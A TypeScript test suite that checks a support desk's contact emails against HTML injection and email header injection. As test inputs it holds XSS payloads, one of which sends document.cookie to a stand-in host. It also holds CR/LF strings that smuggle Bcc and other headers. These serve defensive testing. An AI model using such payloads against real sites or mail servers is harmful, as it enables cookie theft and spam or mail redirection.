import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import nodemailer from 'nodemailer';
import { simpleParser, type AddressObject } from 'mailparser';
import request from 'supertest';
import { submitContact } from '../../src/contact/contact.service.js';
import { buildMessage, UnsendableMailError, type MailTicket } from '../../src/mail/mail.message.js';
import { EMAIL_KINDS } from '../../src/mail/mail.queue.js';
import { MAIL_LANGUAGES, TEMPLATES_DIR } from '../../src/mail/templates.js';
import { createUser } from '../helpers/factories.js';
import { deliveriesOf, mailTestEnv, queuedJobs, waitUntil, type MailTestEnv } from './mail-setup.js';

const KINDS = ['contact_confirmation', 'contact_admin_notification', 'contact_resolved', 'ticket_reply'] as const;
const DELIVERY_ID = '0f0e0d0c-0b0a-4909-8807-060504030201';
const CONFIG = {
  MAIL_FROM: 'Desk <desk@example.com>',
  SUPPORT_RESPONSE_TIME: 'soon',
  publicUrl: 'http://x.test',
  INBOUND_ADDRESS: 'support@desk.test',
  MAIL_SIGNING_SECRET: 'injection-test-signing-secret-0123456789',
  DATA_DIR: '.data',
};
const stream = nodemailer.createTransport({ streamTransport: true, buffer: true });

const addresses = (a: AddressObject | AddressObject[] | undefined) =>
  (Array.isArray(a) ? a : a ? [a] : []).flatMap((o) => o.value.map((v) => v.address));

/** Header names of a raw message, lower-cased (everything before the first blank line). */
function headerNames(raw: string): string[] {
  const head = raw.split(/\r?\n\r?\n/)[0]!;
  return head
    .split(/\r?\n/)
    .filter((line) => /^[^\s:]+:/.test(line))
    .map((line) => line.slice(0, line.indexOf(':')).toLowerCase());
}

describe('ticket emails: HTML escaping and header injection', () => {
  let env: MailTestEnv;
  before(async () => {
    env = await mailTestEnv();
    await createUser(env.ctx, { role: 'admin', email: 'boss@example.com' });
  });
  after(() => env.close());

  test('when a submission is full of <script> and quotes, then the HTML parts escape it and the text parts keep it intact', async () => {
    const hostile = {
      name: `<script>alert("name")</script> O'Brien & "Co"`,
      email: 'xss@example.com',
      subject: `<img src=x onerror="alert('s')"> & more`,
      message: `<script>document.location='https://evil.test/?'+document.cookie</script>\n"double" 'single' & <b>bold</b>`,
    };
    const before = env.sink.messages.length;
    const res = await request(env.t.app).post('/api/v1/contact/submit').send(hostile).expect(201);
    const received = (await env.sink.waitFor(before + 2)).slice(before);
    assert.equal(received.length, 2);
    for (const mail of received) {
      const html = mail.parsed.html as string;
      const text = mail.parsed.text!;
      assert.ok(!/<script/i.test(html), 'a live <script> tag reached the HTML part');
      assert.ok(!html.includes('<img'), 'a live <img> tag reached the HTML part');
      assert.ok(!html.includes('<b>bold'), 'user markup reached the HTML part');
      assert.ok(
        html.includes('&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt; O&#x27;Brien &amp; &quot;Co&quot;'),
      );
      assert.ok(html.includes('&lt;img src&#x3D;x onerror&#x3D;&quot;alert(&#x27;s&#x27;)&quot;&gt; &amp; more'));
      assert.ok(html.includes(`&quot;double&quot; &#x27;single&#x27; &amp; &lt;b&gt;bold&lt;/b&gt;`));
      assert.ok(text.includes(hostile.name), 'the text part must not be HTML-escaped (name)');
      assert.ok(text.includes(hostile.subject), 'the text part must not be HTML-escaped (subject)');
      assert.ok(!text.includes('&quot;') && !text.includes('&lt;') && !text.includes('&#x27;'));
      assert.ok(mail.parsed.subject!.endsWith(hostile.subject), 'the subject header carries the raw text');
    }
    const confirmation = received.find((m) => m.envelope.to.includes('xss@example.com'))!;
    assert.ok(confirmation.parsed.text!.includes(hostile.message), 'message copy intact in the text part');
    assert.equal(res.body.name, hostile.name);
  });

  test('when the public form gets a name with CR/LF, then it is rejected before anything is queued', async () => {
    const res = await request(env.t.app)
      .post('/api/v1/contact/submit')
      .send({ name: 'Eve\r\nBcc: victim@evil.test', email: 'eve@example.com', subject: 'hi', message: 'x' })
      .expect(400);
    assert.ok(res.body.error.fields.name, 'the name field is named in the error');
    const { rows } = await env.ctx.db.pool.query(`SELECT 1 FROM email_deliveries WHERE recipient = 'eve@example.com'`);
    assert.equal(rows.length, 0);
  });

  test('when CR/LF reaches the service anyway (name, subject), then no mail gains a header or a recipient', async () => {
    const before = env.sink.messages.length;
    await submitContact(
      env.ctx,
      {
        name: 'Mallory\r\nBcc: victim@evil.test',
        email: 'mallory@example.com',
        subject: 'Hello\r\nX-Injected: yes\r\n\r\n<h1>body takeover</h1>',
        message: 'plain',
        category: 'general',
      },
      { actor: null, ip: null, userAgent: null },
    );
    const received = (await env.sink.waitFor(before + 2)).slice(before);
    for (const mail of received) {
      assert.equal(mail.envelope.to.length, 1);
      assert.ok(!mail.envelope.to.includes('victim@evil.test'));
      const names = headerNames(mail.raw);
      assert.ok(!names.includes('bcc') && !names.includes('x-injected'), `injected header in ${names.join(', ')}`);
      assert.equal(mail.parsed.headers.has('x-injected'), false);
      assert.ok(!addresses(mail.parsed.to).includes('victim@evil.test'));
      assert.ok(!addresses(mail.parsed.replyTo).includes('victim@evil.test'));
      assert.match(mail.parsed.subject!, /Hello X-Injected: yes <h1>body takeover<\/h1>$/);
    }
    const confirmation = received.find((m) => m.envelope.to.includes('mallory@example.com'))!;
    assert.deepEqual(addresses(confirmation.parsed.to), ['mallory@example.com']);
    const alert = received.find((m) => m.envelope.to.includes('boss@example.com'))!;
    assert.deepEqual(addresses(alert.parsed.replyTo), ['mallory@example.com']);
  });

  test('when a message is rendered directly with CR/LF in every user field, then the composed mail has only its own headers', async () => {
    const ticket: MailTicket = {
      id: '7c1b4a2e-0d55-4a53-9d0e-2f4f0f7f3a11',
      ticketNumber: 'CONT-20260109-0001',
      name: 'Trudy\nBcc: a@evil.test\u2028Cc: b@evil.test',
      email: 'trudy@example.com',
      subject: 'Subj\rX-Evil: 1\nSender: d@evil.test',
      message: 'm',
      category: 'general',
      resolutionNotes: 'n\r\nX-Notes: 1',
    };
    for (const kind of KINDS) {
      const recipient = kind === 'contact_admin_notification' ? 'admin@example.com' : ticket.email;
      const message = buildMessage(
        ticket,
        {
          id: DELIVERY_ID,
          kind,
          recipient,
          message: { body: 'Hi\r\nBcc: x@evil.test', authorName: 'Mo\nCc: y@evil.test' },
        },
        CONFIG,
      );
      const raw = ((await stream.sendMail(message)).message as Buffer).toString('utf8');
      const parsed = await simpleParser(raw);
      // Automated kinds say so (Auto-Submitted, X-Auto-Response-Suppress); every kind has a
      // Reply-To: the submitter for the admin alert, the ticket's reply address otherwise.
      const expected = [
        'auto-submitted',
        'content-type',
        'date',
        'from',
        'message-id',
        'mime-version',
        'reply-to',
        'subject',
        'to',
        'x-auto-response-suppress',
      ].filter((h) => kind !== 'ticket_reply' || (!h.startsWith('auto-') && !h.startsWith('x-auto')));
      assert.deepEqual(headerNames(raw).sort(), expected.sort(), `${kind}: unexpected header set`);
      const everyone = [...addresses(parsed.to), ...addresses(parsed.replyTo), ...addresses(parsed.from)];
      assert.ok(!everyone.some((a) => a?.endsWith('@evil.test')), `${kind}: ${everyone.join(', ')}`);
      assert.ok(!/[\r\n]/.test(parsed.subject!));
      assert.deepEqual(message.envelope, { from: 'desk@example.com', to: [recipient] });
    }
  });

  test('when the address itself carries CR/LF, then mail to it is refused and the admin alert goes out without Reply-To', async () => {
    const ticket: MailTicket = {
      id: '7c1b4a2e-0d55-4a53-9d0e-2f4f0f7f3a12',
      ticketNumber: 'CONT-20260109-0002',
      name: 'Trudy',
      email: 'trudy@example.com\r\nBcc: c@evil.test',
      subject: 's',
      message: 'm',
      category: 'general',
      resolutionNotes: '',
    };
    for (const kind of ['contact_confirmation', 'contact_resolved'] as const) {
      assert.throws(
        () => buildMessage(ticket, { id: DELIVERY_ID, kind, recipient: ticket.email }, CONFIG),
        UnsendableMailError,
      );
    }
    const alert = buildMessage(
      ticket,
      { id: DELIVERY_ID, kind: 'contact_admin_notification', recipient: 'a@example.com' },
      CONFIG,
    );
    assert.equal(alert.replyTo, undefined);
    const raw = ((await stream.sendMail(alert)).message as Buffer).toString('utf8');
    assert.ok(!headerNames(raw).includes('bcc') && !headerNames(raw).includes('reply-to'));
  });

  test('when such an address reaches the worker, then the delivery is failed at once, not retried, and nothing is sent to it', async () => {
    const before = env.sink.messages.length;
    const ticket = await submitContact(
      env.ctx,
      {
        name: 'Eve',
        email: 'eve@example.com\r\nBcc: victim@evil.test',
        subject: 's',
        message: 'm',
        category: 'general',
      },
      { actor: null, ip: null, userAgent: null },
    );
    await env.sink.waitFor(before + 1);
    const rows = await waitUntil(async () => {
      const r = await deliveriesOf(env.ctx, ticket.id);
      return r.every((d) => d.status !== 'queued') && r;
    }, 'both deliveries are settled');
    const confirmation = rows.find((r) => r.kind === 'contact_confirmation')!;
    assert.deepEqual([confirmation.status, confirmation.attempts], ['failed', 1]);
    assert.match(confirmation.last_error!, /not a single plain email address/);
    assert.equal(rows.find((r) => r.kind === 'contact_admin_notification')!.status, 'sent');
    await waitUntil(async () => (await queuedJobs(env.ctx)).length === 0, 'no job is left to retry');
    const received = env.sink.messages.slice(before);
    assert.equal(received.length, 1);
    assert.deepEqual(received[0]!.envelope.to, ['boss@example.com']);
    assert.equal(received[0]!.parsed.replyTo, undefined);
  });

  test('when the templates are read, then only the layout inserts raw HTML, and only the rendered body', async () => {
    const files = (await readdir(TEMPLATES_DIR!)).filter((f) => f.endsWith('.html.hbs'));
    // The layout and one body per email kind.
    assert.deepEqual(files.sort(), ['layout.html.hbs', ...EMAIL_KINDS.map((k) => `${k}.html.hbs`)].sort());
    // Each language's layout and bodies too (templates/<lang>/).
    for (const lang of MAIL_LANGUAGES) {
      const own = (await readdir(path.join(TEMPLATES_DIR!, lang))).filter((f) => f.endsWith('.html.hbs'));
      assert.ok(own.includes('layout.html.hbs'), `${lang} has its layout`);
      files.push(...own.map((f) => `${lang}/${f}`));
    }
    for (const file of files) {
      const source = await readFile(path.join(TEMPLATES_DIR!, file), 'utf8');
      const raw = source.match(/\{\{\{[^}]*\}\}\}|\{\{&[^}]*\}\}/g) ?? [];
      assert.deepEqual(
        raw,
        path.basename(file) === 'layout.html.hbs' ? ['{{{body}}}'] : [],
        `${file} inserts unescaped values`,
      );
    }
  });
});
